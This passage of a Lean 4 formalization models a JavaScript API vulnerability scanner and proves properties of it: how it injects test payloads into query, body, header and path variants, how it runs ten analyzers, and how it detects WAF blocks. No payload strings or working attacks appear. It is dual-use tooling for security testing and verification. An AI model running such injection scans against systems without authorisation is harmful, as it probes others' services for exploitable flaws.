                     else if code == some "ETIMEDOUT" then "Request timed out"
                     else msg) }

/-! ### Baseline collection -/

/-- `getBaseline`: one dispatch of the unmodified endpoint.  Because
`sendRequest` always resolves, baseline collection cannot fail in this model
(the orchestrator's `catch` around it is dead code); a transport failure
shows up as a status-0 baseline.  `content-length` falls back to the
number `0` in JS; the string `"0"` stands in for it here. -/
structure Baseline where
  status : Nat
  responseTime : Nat
  contentLength : String
deriving DecidableEq

def getBaseline (net : Net) (endpoint : Endpoint) : Baseline :=
  let result := sendRequest net endpoint
  { status := result.response.status,
    responseTime := result.responseTime,
    contentLength :=
      match getHeader result.response.headers "content-length" with
      | some s => if s != "" then s else "0"
      | none => "0" }

/-! ### The scan orchestrator (`scanEndpoint`, `runScan`) -/

/-- `truncateResponse`: the preview of a body stored in a test record.
A falsy (empty) body yields a placeholder; otherwise bodies longer than
200 characters are cut to 200 characters plus a marker. -/
def truncateResponse (data : String) : String :=
  if data == "" then "[No response body]"
  else if data.length ≤ 200 then data
  else String.mk (data.toList.take 200) ++ "... [truncated]"

/-- One analyzer plugin as the registry sees it (the four duck-typed module
functions).  `analyzeResponse` uniformly receives the elapsed time; modules
whose JS signature omits that parameter ignore it, as extra JS arguments are
ignored. -/
structure Scanner where
  getType : String
  getSeverity : String
  getPayloads : List String
  analyzeResponse : Response → String → Option Nat → Nat → AnalysisResult

def sqlScanner : Scanner :=
  { getType := sql.getType, getSeverity := sql.getSeverity, getPayloads := sql.getPayloads,
    analyzeResponse := fun r p s _ => sql.analyzeResponse r p s }

def xssScanner : Scanner :=
  { getType := xss.getType, getSeverity := xss.getSeverity, getPayloads := xss.getPayloads,
    analyzeResponse := fun r p s _ => xss.analyzeResponse r p s }

def commandInjectionScanner : Scanner :=
  { getType := commandInjection.getType, getSeverity := commandInjection.getSeverity,
    getPayloads := commandInjection.getPayloads,
    analyzeResponse := fun r p s t => commandInjection.analyzeResponse r p s (some t) }

def pathTraversalScanner : Scanner :=
  { getType := pathTraversal.getType, getSeverity := pathTraversal.getSeverity,
    getPayloads := pathTraversal.getPayloads,
    analyzeResponse := fun r p s _ => pathTraversal.analyzeResponse r p s }

def nosqlInjectionScanner : Scanner :=
  { getType := nosqlInjection.getType, getSeverity := nosqlInjection.getSeverity,
    getPayloads := nosqlInjection.getPayloads,
    analyzeResponse := fun r p s _ => nosqlInjection.analyzeResponse r p s }

def headerInjectionScanner : Scanner :=
  { getType := headerInjection.getType, getSeverity := headerInjection.getSeverity,
    getPayloads := headerInjection.getPayloads,
    analyzeResponse := fun r p s _ => headerInjection.analyzeResponse r p s }

def rateLimitingScanner : Scanner :=
  { getType := rateLimiting.getType, getSeverity := rateLimiting.getSeverity,
    getPayloads := rateLimiting.getPayloads,
    analyzeResponse := fun r p s t => rateLimiting.analyzeResponse r p s (some t) }

def malformedPayloadScanner : Scanner :=
  { getType := malformedPayload.getType, getSeverity := malformedPayload.getSeverity,
    getPayloads := malformedPayload.getPayloads,
    analyzeResponse := fun r p s _ => malformedPayload.analyzeResponse r p s }

def httpMethodScanner : Scanner :=
  { getType := httpMethodTest.getType, getSeverity := httpMethodTest.getSeverity,
    getPayloads := httpMethodTest.getPayloads,
    analyzeResponse := fun r p s _ => httpMethodTest.analyzeResponse r p s }

def payloadSizeScanner : Scanner :=
  { getType := payloadSize.getType, getSeverity := payloadSize.getSeverity,
    getPayloads := payloadSize.getPayloads,
    analyzeResponse := fun r p s t => payloadSize.analyzeResponse r p s (some t) }

/-- The scanner registry, in source order: ten vulnerability types. -/
def scanners : List Scanner := [
  sqlScanner,
  xssScanner,
  commandInjectionScanner,
  pathTraversalScanner,
  nosqlInjectionScanner,
  headerInjectionScanner,
  rateLimitingScanner,
  malformedPayloadScanner,
  httpMethodScanner,
  payloadSizeScanner]

/-- Scan options, all optional, mirroring the truthiness tests the
orchestrator applies to them. -/
structure ScanOptions where
  scanTypes : Option (List String) := none
  maxPayloads : Option Nat := none
  injectLocation : Option String := none
deriving DecidableEq

/-- `options.scanTypes && options.scanTypes.length > 0 ? filter : all`. -/
def scannersToUse (scanTypes : Option (List String)) : List Scanner :=
  match scanTypes with
  | some ts => if ts.length > 0 then scanners.filter (fun s => ts.contains s.getType) else scanners
  | none => scanners

/-- `options.maxPayloads || 5` (0 is falsy in JS). -/
def effMaxPayloads (mp : Option Nat) : Nat :=
  match mp with
  | some n => if n == 0 then 5 else n
  | none => 5

/-- `options.injectLocation || 'all'`. -/
def effInjectLocation (loc : Option String) : String :=
  match loc with
  | some s => if s == "" then "all" else s
  | none => "all"

/-- One probe's full record.  `testedAt` is a wall-clock timestamp in JS and
is kept as a constant here.  Fields the ERROR path leaves unset are
`Option`s. -/
structure TestRecord where
  type : String
  severity : String
  payload : String
  injectionPoint : String
  requestUrl : String
  requestMethod : String
  responseCode : Nat
  responseTime : Nat
  responseSize : Nat
  responsePreview : String
  result : String
  confidence : Option String
  indicators : List String
  notes : String
  baselineStatus : Option Nat
  statusChanged : Option Bool
  testedAt : String
deriving DecidableEq

/-- One probe of `scanEndpoint`'s inner loop: dispatch one injected variant,
then either record the transport error or run the analyzer.  The surrounding
JS `try/catch` is dead code in this model, since nothing here throws. -/
def runTest (net : Net) (scanner : Scanner) (baseline : Baseline) (payload : String)
    (injectedEndpoint : Endpoint) : TestRecord :=
  let sr := sendRequest net injectedEndpoint
  let response := sr.response
  let base : TestRecord :=
    { type := scanner.getType,
      severity := scanner.getSeverity,
      payload := payload,
      injectionPoint := injectedEndpoint.injectionPoint.getD "",
      requestUrl := injectedEndpoint.url,
      requestMethod := injectedEndpoint.method,
      responseCode := response.status,
      responseTime := sr.responseTime,
      responseSize := response.data.length,
      responsePreview := truncateResponse response.data,
      result := "",
      confidence := none,
      indicators := [],
      notes := "",
      baselineStatus := none,
      statusChanged := none,
      testedAt := "" }
  if (match sr.error with | some e => e != "" | none => false) && !sr.success then
    { base with
        result := "ERROR",
        notes := "Request failed: " ++ sr.error.getD "",
        indicators := ["Request could not be completed"] }
  else
    let analysis := scanner.analyzeResponse response payload (some baseline.status) sr.responseTime
    { base with
        result := if analysis.vulnerable then "FAIL" else "PASS",
        confidence := some (if analysis.confidence != "" then analysis.confidence else "low"),
        indicators := analysis.indicators,
        notes :=
          if analysis.notes != "" then analysis.notes
          else if analysis.vulnerable then "Potential vulnerability detected based on response analysis"
          else "No vulnerability indicators found in response",
        baselineStatus := some baseline.status,
        statusChanged := some (response.status != baseline.status) }

structure ScanSummary where
  total : Nat
  passed : Nat
  failed : Nat
  errors : Nat
deriving DecidableEq

structure EndpointScanResult where
  api : String
  method : String
  url : String
  tests : List TestRecord
  summary : ScanSummary
deriving DecidableEq

/-- `scanEndpoint(endpoint, options)`: baseline once, then the full
analyzer × payload-prefix × variant-prefix loop.  The running counters of the
JS loop are recovered from the record list: every probe pushes exactly one
record, with `result` marking how it was counted. -/
def scanEndpoint (net : Net) (endpoint : Endpoint) (options : ScanOptions) : EndpointScanResult :=
  let baseline := getBaseline net endpoint
  let selected := scannersToUse options.scanTypes
  let maxPayloads := effMaxPayloads options.maxPayloads
  let tests :=
    selected.flatMap (fun scanner =>
      (scanner.getPayloads.take maxPayloads).flatMap (fun payload =>
        ((injectPayload endpoint payload (effInjectLocation options.injectLocation)).take 2).map
          (fun v => runTest net scanner baseline payload v)))
  { api := if endpoint.name != "" then endpoint.name else endpoint.url,
    method := endpoint.method,
    url := endpoint.url,
    tests := tests,
    summary :=
      { total := tests.length,
        passed := (tests.filter (fun t => t.result == "PASS")).length,
        failed := (tests.filter (fun t => t.result == "FAIL")).length,
        errors := (tests.filter (fun t => t.result == "ERROR")).length } }

structure Vulnerability where
  endpoint : String
  type : String
  severity : String
  payload : String
  confidence : Option String
deriving DecidableEq

structure ReportSummary where
  totalEndpoints : Nat
  totalTests : Nat
  passed : Nat
  failed : Nat
  errors : Nat
  vulnerabilities : List Vulnerability
deriving DecidableEq

structure ScanReport where
  options : ScanOptions
  endpoints : List EndpointScanResult
  summary : ReportSummary
deriving DecidableEq

/-- `runScan(endpoints, options)`: every endpoint scanned sequentially, with
a rollup summary and the flattened FAIL records.  The uuid scan id, the two
wall-clock stamps, the 50ms inter-probe delay and the progress callback are
process effects outside this model; the per-endpoint `catch` is dead code
here because `scanEndpoint` is total. -/
def runScan (net : Net) (endpoints : List Endpoint) (options : ScanOptions) : ScanReport :=
  let results := endpoints.map (fun e => scanEndpoint net e options)
  { options := options,
    endpoints := results,
    summary :=
      { totalEndpoints := endpoints.length,
        totalTests := (results.map (fun r => r.summary.total)).sum,
        passed := (results.map (fun r => r.summary.passed)).sum,
        failed := (results.map (fun r => r.summary.failed)).sum,
        errors := (results.map (fun r => r.summary.errors)).sum,
        vulnerabilities :=
          results.flatMap (fun r =>
            (r.tests.filter (fun t => t.result == "FAIL")).map (fun v =>
              { endpoint := r.api, type := v.type, severity := v.severity,
                payload := v.payload, confidence := v.confidence })) } }

/-! ### Lemmas about the matcher -/

theorem matchPre_eps (s : List Char) : matchPre .eps s = true := by
  cases s <;> simp [matchPre, RE.nullable]

theorem matchPre_cat_emp (r : RE) (s : List Char) : matchPre (.cat .emp r) s = false := by
  induction s with
  | nil => simp [matchPre, RE.nullable]
  | cons c cs ih => simp [matchPre, RE.nullable, RE.deriv, ih]

theorem matchPre_alt (a b : RE) (s : List Char) :
    matchPre (.alt a b) s = (matchPre a s || matchPre b s) := by
  induction s generalizing a b with
  | nil => simp [matchPre, RE.nullable]
  | cons c cs ih =>
    simp only [matchPre, RE.nullable, RE.deriv, ih]
    cases a.nullable <;> cases b.nullable <;> simp [Bool.or_assoc, Bool.or_comm, Bool.or_left_comm]

theorem matchPre_cat_eps (r : RE) (s : List Char) : matchPre (.cat .eps r) s = matchPre r s := by
  induction s generalizing r with
  | nil => simp [matchPre, RE.nullable]
  | cons c cs ih =>
    simp [matchPre, RE.nullable, RE.deriv, matchPre_alt, matchPre_cat_emp]

theorem reSearch_alt (a b : RE) (s : List Char) :
    reSearch (.alt a b) s = (reSearch a s || reSearch b s) := by
  induction s with
  | nil => simp [reSearch, RE.nullable]
  | cons c cs ih =>
    simp only [reSearch, matchPre_alt, ih]
    cases matchPre a (c :: cs) <;> cases matchPre b (c :: cs) <;>
      simp [Bool.or_assoc, Bool.or_comm, Bool.or_left_comm]

/-- The literal regex for a character list (what `litRE` builds). -/
def litREL (l : List Char) : RE := l.foldr (fun c r => RE.cat (chrRE c) r) .eps

theorem litRE_eq (s : String) : litRE s = litREL s.toList := rfl

theorem matchPre_lit_of_pre (p s : List Char) (h : p <+: s) :
    matchPre (litREL p) s = true := by
  induction p generalizing s with
  | nil => exact matchPre_eps s
  | cons c p' ih =>
    obtain ⟨t, rfl⟩ := h
    have he : (c :: p') ++ t = c :: (p' ++ t) := by simp
    rw [he]
    show (RE.nullable (.cat (chrRE c) (litREL p')) ||
          matchPre ((RE.cat (chrRE c) (litREL p')).deriv c) (p' ++ t)) = true
    have hn : RE.nullable (.cat (chrRE c) (litREL p')) = false := by
      simp [RE.nullable, chrRE]
    have hd : (RE.cat (chrRE c) (litREL p')).deriv c = .cat .eps (litREL p') := by
      simp [RE.deriv, RE.nullable, chrRE]
    rw [hn, hd, Bool.false_or, matchPre_cat_eps]
    exact ih (p' ++ t) ⟨t, rfl⟩

theorem reSearch_of_matchPre (r : RE) (s : List Char) (h : matchPre r s = true) :
    reSearch r s = true := by
  cases s with
  | nil => simpa [reSearch, matchPre] using h
  | cons c cs => simp [reSearch, h]

theorem reSearch_lit_of_infix (p s : List Char) (h : p <:+: s) :
    reSearch (litREL p) s = true := by
  obtain ⟨u, v, rfl⟩ := h
  induction u with
  | nil =>
    exact reSearch_of_matchPre _ _ (matchPre_lit_of_pre p (p ++ v) ⟨v, rfl⟩)
  | cons a u' ih =>
    have he : (a :: u') ++ p ++ v = a :: (u' ++ p ++ v) := by simp
    rw [he]
    show (matchPre (litREL p) (a :: (u' ++ p ++ v)) || reSearch (litREL p) (u' ++ p ++ v)) = true
    rw [ih]
    simp

theorem reSearch_alts_of_mem (rs : List RE) (r : RE) (s : List Char)
    (hm : r ∈ rs) (h : reSearch r s = true) : reSearch (altsRE rs) s = true := by
  induction rs with
  | nil => cases hm
  | cons a as ih =>
    have he : altsRE (a :: as) = .alt a (altsRE as) := rfl
    rw [he, reSearch_alt]
    rcases List.mem_cons.mp hm with rfl | hmem
    · rw [h]; simp
    · rw [ih hmem]; simp

/-! ### Lemmas about substring containment -/

theorem infixTrans {l₁ l₂ l₃ : List Char} (h₁ : l₁ <:+: l₂) (h₂ : l₂ <:+: l₃) : l₁ <:+: l₃ := by
  obtain ⟨a, b, rfl⟩ := h₁
  obtain ⟨c, d, rfl⟩ := h₂
  exact ⟨c ++ a, b ++ d, by simp⟩

theorem infixMap {l₁ l₂ : List Char} (f : Char → Char) (h : l₁ <:+: l₂) :
    l₁.map f <:+: l₂.map f := by
  obtain ⟨a, b, rfl⟩ := h
  exact ⟨a.map f, b.map f, by simp⟩

theorem containsStr_iff (hay needle : String) :
    containsStr hay needle = true ↔ needle.toList <:+: hay.toList := by
  simp [containsStr]

theorem containsStr_trans (a b c : String) (h₁ : containsStr a b = true)
    (h₂ : containsStr b c = true) : containsStr a c = true := by
  rw [containsStr_iff] at *
  exact infixTrans h₂ h₁

theorem containsStr_lower (a b : String) (h : containsStr a b = true) :
    containsStr (lowerStr a) (lowerStr b) = true := by
  rw [containsStr_iff] at *
  simpa [lowerStr] using infixMap Char.toLower h

theorem any_contains_of_mem (inds : List String) (bl p : String)
    (hm : p ∈ inds) (hc : containsStr bl p = true) :
    (inds.any fun ind => containsStr bl ind) = true :=
  List.any_eq_true.mpr ⟨p, hm, hc⟩

/-! ### Counting lemmas -/

theorem flatMapLenLe {α β : Type} (l : List α) (f : α → List β) (k : Nat)
    (h : ∀ x ∈ l, (f x).length ≤ k) : (l.flatMap f).length ≤ l.length * k := by
  induction l with
  | nil => simp
  | cons a as ih =>
    simp only [List.flatMap_cons, List.length_append, List.length_cons]
    have h1 := h a (List.mem_cons_self a as)
    have h2 := ih (fun x hx => h x (List.mem_cons_of_mem a hx))
    calc (f a).length + (as.flatMap f).length ≤ k + as.length * k := Nat.add_le_add h1 h2
    _ = (as.length + 1) * k := by ring

theorem mapSumLe {α : Type} (l : List α) (g : α → Nat) (k : Nat)
    (h : ∀ x ∈ l, g x ≤ k) : (l.map g).sum ≤ l.length * k := by
  induction l with
  | nil => simp
  | cons a as ih =>
    simp only [List.map_cons, List.sum_cons, List.length_cons]
    have h1 := h a (List.mem_cons_self a as)
    have h2 := ih (fun x hx => h x (List.mem_cons_of_mem a hx))
    calc g a + (as.map g).sum ≤ k + as.length * k := Nat.add_le_add h1 h2
    _ = (as.length + 1) * k := by ring

theorem filterLenLeOne (l : List Scanner) (p : Scanner → Bool) (t : String)
    (hp : ∀ x, p x = true → x.getType = t)
    (hnd : (l.map (fun s => s.getType)).Nodup) :
    (l.filter p).length ≤ 1 := by
  induction l with
  | nil => simp
  | cons a as ih =>
    simp only [List.map_cons, List.nodup_cons] at hnd
    by_cases hpa : p a = true
    · have hrest : as.filter p = [] := by
        apply List.filter_eq_nil_iff.mpr
        intro x hx hcx
        exact absurd (List.mem_map.mpr ⟨x, hx, by rw [hp x hcx, hp a hpa]⟩) hnd.1
      simp [List.filter_cons, hpa, hrest]
    · simp only [List.filter_cons, hpa, if_false, Bool.false_eq_true]
      simpa using ih hnd.2

theorem filterSingletonLenLe (l : List Scanner) (t : String)
    (hnd : (l.map (fun s => s.getType)).Nodup) :
    (l.filter (fun s => [t].contains s.getType)).length ≤ 1 := by
  apply filterLenLeOne l _ t _ hnd
  intro x h
  simpa using h

/-- Is the body a structured (object) body? -/
def BodyVal.isObj : BodyVal → Bool
  | .obj _ => true
  | _ => false

set_option maxRecDepth 10000

/-! ### Claim C8: the response preview -/

/-- C8 counterexample: the claim says every stored `responsePreview` is at
most 200 characters long, but for a 201-character body `truncateResponse`
returns the 200-character cut plus the 15-character marker, 215 characters
in all. -/
theorem C8_counterexample :
    ¬((truncateResponse (String.mk (List.replicate 201 'a'))).length ≤ 200) := by
  decide

/-- C8 (amended): the preview is at most 215 characters long, and a body
longer than 200 characters is previewed as its first 200 characters followed
by the `... [truncated]` marker. -/
theorem C8_truncateResponse_bound (data : String) :
    (truncateResponse data).length ≤ 215 ∧
    (200 < data.length →
      truncateResponse data = String.mk (data.toList.take 200) ++ "... [truncated]") := by
  have hlen : ∀ s : String, s.length = s.toList.length := fun s => rfl
  constructor
  · by_cases h0 : data = ""
    · subst h0; decide
    · by_cases h1 : data.length ≤ 200
      · have : truncateResponse data = data := by
          simp [truncateResponse, h0, h1]
        rw [this]; omega
      · have : truncateResponse data = String.mk (data.toList.take 200) ++ "... [truncated]" := by
          simp [truncateResponse, h0, h1]
        rw [this, String.length_append]
        have htake : (String.mk (data.toList.take 200)).length = min 200 data.toList.length := by
          rw [hlen]; simp
        rw [htake]
        have : min 200 data.toList.length ≤ 200 := Nat.min_le_left _ _
        have hm : ("... [truncated]" : String).length = 15 := by decide
        omega
  · intro h2
    have h0 : ¬(data = "") := by
      intro h; subst h; simp at h2
    have h1 : ¬(data.length ≤ 200) := by omega
    simp [truncateResponse, h0, h1]

/-- C8 witness: the amended statement at the concrete 201-character body. -/
theorem C8_truncateResponse_bound_witness :
    truncateResponse (String.mk (List.replicate 201 'a')) =
      String.mk ((String.mk (List.replicate 201 'a')).toList.take 200) ++ "... [truncated]" :=
  (C8_truncateResponse_bound (String.mk (List.replicate 201 'a'))).2 (by decide)

/-! ### Claim C4: the dispatcher always resolves and classifies failures -/

/-- C4: `sendRequest` always resolves with a result value: a successful
axios outcome is returned as-is with `success = true`, and every transport
failure is caught and returned with `success = false`, a status-0 response
capture when the error carries no HTTP response, and an error message
classified as connection-refused, timed-out, or the generic error message. -/
theorem C4_sendRequest_always_resolves (net : Net) (endpoint : Endpoint) :
    (∀ r t, net (requestConfig endpoint) = .ok r t →
       sendRequest net endpoint = { success := true, response := r, responseTime := t, error := none }) ∧
    (∀ code msg errResp t, net (requestConfig endpoint) = .fail code msg errResp t →
       (sendRequest net endpoint).success = false ∧
       (errResp = none → (sendRequest net endpoint).response.status = 0) ∧
       (code = some "ECONNREFUSED" →
         (sendRequest net endpoint).error = some "Connection refused - server may be down") ∧
       (code = some "ETIMEDOUT" →
         (sendRequest net endpoint).error = some "Request timed out") ∧
       (code ≠ some "ECONNREFUSED" → code ≠ some "ETIMEDOUT" →
         (sendRequest net endpoint).error = some msg)) := by
  constructor
  · intro r t h
    simp [sendRequest, h]
  · intro code msg errResp t h
    refine ⟨by simp [sendRequest, h], ?_, ?_, ?_, ?_⟩
    · intro hnone
      subst hnone
      simp [sendRequest, h]
    · intro hc
      subst hc
      simp [sendRequest, h]
    · intro hc
      subst hc
      simp [sendRequest, h]
    · intro h1 h2
      have b1 : (code == some "ECONNREFUSED") = false := by
        simpa using h1
      have b2 : (code == some "ETIMEDOUT") = false := by
        simpa using h2
      simp [sendRequest, h, b1, b2]

/-- C4 witness: a connection-refused transport failure on a concrete
endpoint yields `success = false`, status 0, and the classified message. -/
theorem C4_sendRequest_always_resolves_witness :
    ((sendRequest (fun _ => .fail (some "ECONNREFUSED") "connect ECONNREFUSED 127.0.0.1:80" none 7)
        { name := "", method := "GET", url := "http://x", headers := [], body := .nul,
          queryParams := [] }).success = false) ∧
    ((sendRequest (fun _ => .fail (some "ECONNREFUSED") "connect ECONNREFUSED 127.0.0.1:80" none 7)
        { name := "", method := "GET", url := "http://x", headers := [], body := .nul,
          queryParams := [] }).response.status = 0) ∧
    ((sendRequest (fun _ => .fail (some "ECONNREFUSED") "connect ECONNREFUSED 127.0.0.1:80" none 7)
        { name := "", method := "GET", url := "http://x", headers := [], body := .nul,
          queryParams := [] }).error = some "Connection refused - server may be down") := by
  have h := (C4_sendRequest_always_resolves
      (fun _ => .fail (some "ECONNREFUSED") "connect ECONNREFUSED 127.0.0.1:80" none 7)
      { name := "", method := "GET", url := "http://x", headers := [], body := .nul,
        queryParams := [] }).2
      (some "ECONNREFUSED") "connect ECONNREFUSED 127.0.0.1:80" none 7 rfl
  exact ⟨h.1, h.2.1 rfl, h.2.2.1 rfl⟩

/-! ### Claim C10: truthiness of `scanTypes` and `maxPayloads` -/

/-- C10: at the `scanEndpoint` interface, an empty `scanTypes` list selects
all ten analyzers (like omitting the option), and `maxPayloads = 0` falls
back to the default 5, because both options are tested for truthiness; in
particular `scanEndpoint` behaves identically under the two option values. -/
theorem C10_scanEndpoint_option_truthiness :
    scannersToUse (some []) = scanners ∧
    scannersToUse none = scanners ∧
    effMaxPayloads (some 0) = 5 ∧
    effMaxPayloads none = 5 ∧
    ∀ net e,
      scanEndpoint net e { scanTypes := some [], maxPayloads := some 0, injectLocation := none } =
      scanEndpoint net e { scanTypes := none, maxPayloads := none, injectLocation := none } :=
  ⟨rfl, rfl, rfl, rfl, fun _ _ => rfl⟩

/-! ### Claim C2: the six variants for a POST endpoint with one query key and
one body key -/

/-- C2: for an endpoint with `queryParams \x7ba: 1\x7d`, structured body
`\x7bb: 2\x7d` and method POST, `injectPayload` with location `all` yields
exactly six variants in order: query key `a` replaced, query key `q` added,
body key `b` replaced, body key `input` added, one header variant, one path
variant.  Each variant is a fresh value (the JS deep copies are ordinary
values in this embedding), so no variant shares state with the source or a
sibling. -/
theorem C2_injectPayload_post_all_variants (payload : String) :
    injectPayload
      { name := "login", method := "POST", url := "http://x", headers := [],
        body := .obj [("b", "2")], queryParams := [("a", "1")] } payload "all" =
    [{ name := "login", method := "POST", url := "http://x", headers := [],
       body := .obj [("b", "2")], queryParams := [("a", payload)],
       injectionPoint := some "Query param: a" },
     { name := "login", method := "POST", url := "http://x", headers := [],
       body := .obj [("b", "2")], queryParams := [("a", "1"), ("q", payload)],
       injectionPoint := some "Query param: q (injected)" },
     { name := "login", method := "POST", url := "http://x", headers := [],
       body := .obj [("b", payload)], queryParams := [("a", "1")],
       injectionPoint := some "Body param: b" },
     { name := "login", method := "POST", url := "http://x", headers := [],
       body := .obj [("b", "2"), ("input", payload)], queryParams := [("a", "1")],
       injectionPoint := some "Body param: input (injected)" },
     { name := "login", method := "POST", url := "http://x", headers := [("X-Test-Input", payload)],
       body := .obj [("b", "2")], queryParams := [("a", "1")],
       injectionPoint := some "Header: X-Test-Input (injected)" },
     { name := "login", method := "POST", url := "http://x/" ++ encodeURIComponent payload,
       headers := [], body := .obj [("b", "2")], queryParams := [("a", "1")],
       injectionPoint := some "URL path (appended)" }] := rfl

/-! ### Claim C3: at least one probe per payload, with the `test` fallback -/

/-- An `if isEmpty then [fallback] else l` result is never the empty list. -/
theorem ifEmptyNeNil {α : Type} (l : List α) (x : α) : (if l.isEmpty = true then [x] else l) ≠ [] := by
  cases l with
  | nil => simp
  | cons a as => simp

/-- C3: for every endpoint and location among `query`, `body`, `header`,
`path`, `all`, `injectPayload` returns at least one variant; and when no
rule fires (location `body`, a non-object body, and a method that carries no
body, e.g. GET), it returns exactly the single fallback variant that adds
query key `test`. -/
theorem C3_injectPayload_nonempty_and_fallback (e : Endpoint) (payload : String) (loc : String)
    (hloc : loc ∈ ["query", "body", "header", "path", "all"]) :
    injectPayload e payload loc ≠ [] ∧
    (e.method = "GET" → e.body.isObj = false →
      injectPayload e payload "body" =
        [{ e with
             queryParams := setAssoc e.queryParams "test" payload,
             injectionPoint := some "Query param: test (fallback)" }]) := by
  constructor
  · unfold injectPayload
    exact ifEmptyNeNil _ _
  · intro hm hb
    cases hbody : e.body with
    | obj fields => rw [hbody] at hb; simp [BodyVal.isObj] at hb
    | nul => simp [injectPayload, hm, hbody]
    | str s => simp [injectPayload, hm, hbody]

/-- C3 witness: the fallback at a concrete GET endpoint with no body. -/
theorem C3_injectPayload_nonempty_and_fallback_witness :
    injectPayload
      { name := "", method := "GET", url := "http://x", headers := [], body := .nul,
        queryParams := [] } "pay" "body" =
    [{ name := "", method := "GET", url := "http://x", headers := [], body := .nul,
       queryParams := [("test", "pay")], injectionPoint := some "Query param: test (fallback)" }] :=
  (C3_injectPayload_nonempty_and_fallback
      { name := "", method := "GET", url := "http://x", headers := [], body := .nul,
        queryParams := [] } "pay" "body" (by simp)).2 rfl rfl

/-! ### Claim C1: the WAF short-circuit across the ten analyzers -/

/-- The block-indicator phrases common to every analyzer that has a WAF
check. -/
def commonWafIndicators : List String :=
  ["you have been blocked", "access denied", "forbidden", "firewall", "cloudflare", "waf"]

theorem statusOr_true (s : Nat) (hs : s = 403 ∨ s = 406 ∨ s = 429) :
    (s == 403 || s == 406 || s == 429) = true := by
  rcases hs with rfl | rfl | rfl <;> decide

theorem sql_analyze_waf (s : Nat) (b : String) (hdrs : List (String × String))
    (payload : String) (os : Option Nat) (hs : s = 403 ∨ s = 406 ∨ s = 429)
    (p : String) (hp : p ∈ commonWafIndicators) (hc : containsStr (lowerStr b) p = true) :
    sql.analyzeResponse ⟨s, b, hdrs⟩ payload os =
      { vulnerable := false, confidence := "high",
        indicators := ["✅ WAF/Firewall blocked the malicious request",
                       "Response status: " ++ natStr s],
        notes := "PROTECTED: Web Application Firewall detected and blocked the SQL injection attempt. The application is secured by WAF." } := by
  have hmem : p ∈ sql.wafIndicators := by
    have hall : ∀ x ∈ commonWafIndicators, x ∈ sql.wafIndicators := by decide
    exact hall p hp
  have hany := any_contains_of_mem sql.wafIndicators (lowerStr b) p hmem hc
  have hwaf : sql.isWAFBlocked ⟨s, b, hdrs⟩ b = true := by
    simp [sql.isWAFBlocked, statusOr_true s hs, hany]
  simp [sql.analyzeResponse, hwaf]

theorem xss_analyze_waf (s : Nat) (b : String) (hdrs : List (String × String))
    (payload : String) (os : Option Nat) (hs : s = 403 ∨ s = 406 ∨ s = 429)
    (p : String) (hp : p ∈ commonWafIndicators) (hc : containsStr (lowerStr b) p = true) :
    xss.analyzeResponse ⟨s, b, hdrs⟩ payload os =
      { vulnerable := false, confidence := "high",
        indicators := ["✅ WAF/Firewall blocked the malicious request",
                       "Response status: " ++ natStr s],
        notes := "PROTECTED: Web Application Firewall detected and blocked the XSS attempt. The application is secured by WAF." } := by
  have hmem : p ∈ xss.wafIndicators := by
    have hall : ∀ x ∈ commonWafIndicators, x ∈ xss.wafIndicators := by decide
    exact hall p hp
  have hany := any_contains_of_mem xss.wafIndicators (lowerStr b) p hmem hc
  have hwaf : xss.isWAFBlocked ⟨s, b, hdrs⟩ b = true := by
    simp [xss.isWAFBlocked, statusOr_true s hs, hany]
  simp [xss.analyzeResponse, hwaf]

theorem commandInjection_analyze_waf (s : Nat) (b : String) (hdrs : List (String × String))
    (payload : String) (os : Option Nat) (rt : Option Nat) (hs : s = 403 ∨ s = 406 ∨ s = 429)
    (p : String) (hp : p ∈ commonWafIndicators) (hc : containsStr (lowerStr b) p = true) :
    commandInjection.analyzeResponse ⟨s, b, hdrs⟩ payload os rt =
      { vulnerable := false, confidence := "high",
        indicators := ["✅ WAF/Firewall blocked the malicious request"],
        notes := "PROTECTED: WAF detected and blocked the command injection attempt." } := by
  have hmem : p ∈ commandInjection.wafIndicators := by
    have hall : ∀ x ∈ commonWafIndicators, x ∈ commandInjection.wafIndicators := by decide
    exact hall p hp
  have hany := any_contains_of_mem commandInjection.wafIndicators (lowerStr b) p hmem hc
  have hwaf : commandInjection.isWAFBlocked ⟨s, b, hdrs⟩ b = true := by
    simp [commandInjection.isWAFBlocked, statusOr_true s hs, hany]
  simp [commandInjection.analyzeResponse, hwaf]

theorem pathTraversal_analyze_waf (s : Nat) (b : String) (hdrs : List (String × String))
    (payload : String) (os : Option Nat) (hs : s = 403 ∨ s = 406 ∨ s = 429)
    (p : String) (hp : p ∈ commonWafIndicators) (hc : containsStr (lowerStr b) p = true) :
    pathTraversal.analyzeResponse ⟨s, b, hdrs⟩ payload os =
      { vulnerable := false, confidence := "high",
        indicators := ["✅ WAF/Firewall blocked the malicious request"],
        notes := "PROTECTED: WAF detected and blocked the path traversal attempt." } := by
  have hmem : p ∈ pathTraversal.wafIndicators := by
    have hall : ∀ x ∈ commonWafIndicators, x ∈ pathTraversal.wafIndicators := by decide
    exact hall p hp
  have hany := any_contains_of_mem pathTraversal.wafIndicators (lowerStr b) p hmem hc
  have hwaf : pathTraversal.isWAFBlocked ⟨s, b, hdrs⟩ b = true := by
    simp [pathTraversal.isWAFBlocked, statusOr_true s hs, hany]
  simp [pathTraversal.analyzeResponse, hwaf]

theorem rateLimiting_analyze_waf (s : Nat) (b : String) (hdrs : List (String × String))
    (payload : String) (os : Option Nat) (rt : Option Nat) (hs : s = 403 ∨ s = 406 ∨ s = 429)
    (p : String) (hp : p ∈ commonWafIndicators) (hc : containsStr (lowerStr b) p = true) :
    (rateLimiting.analyzeResponse ⟨s, b, hdrs⟩ payload os rt).vulnerable = false ∧
    (rateLimiting.analyzeResponse ⟨s, b, hdrs⟩ payload os rt).confidence = "high" := by
  have hmem : p ∈ rateLimiting.wafIndicators := by
    have hall : ∀ x ∈ commonWafIndicators, x ∈ rateLimiting.wafIndicators := by decide
    exact hall p hp
  have hany := any_contains_of_mem rateLimiting.wafIndicators (lowerStr b) p hmem hc
  have hwaf : rateLimiting.isWAFBlocked ⟨s, b, hdrs⟩ b = true := by
    simp [rateLimiting.isWAFBlocked, hany]
  rcases hs with rfl | rfl | rfl <;> simp [rateLimiting.analyzeResponse, hwaf]

theorem nosqlInjection_analyze_waf (s : Nat) (b : String) (hdrs : List (String × String))
    (payload : String) (os : Option Nat) (hs : s = 403 ∨ s = 406 ∨ s = 429)
    (p : String) (hp : p ∈ commonWafIndicators) (hc : containsStr (lowerStr b) p = true) :
    nosqlInjection.analyzeResponse ⟨s, b, hdrs⟩ payload os =
      { vulnerable := false, confidence := "low",
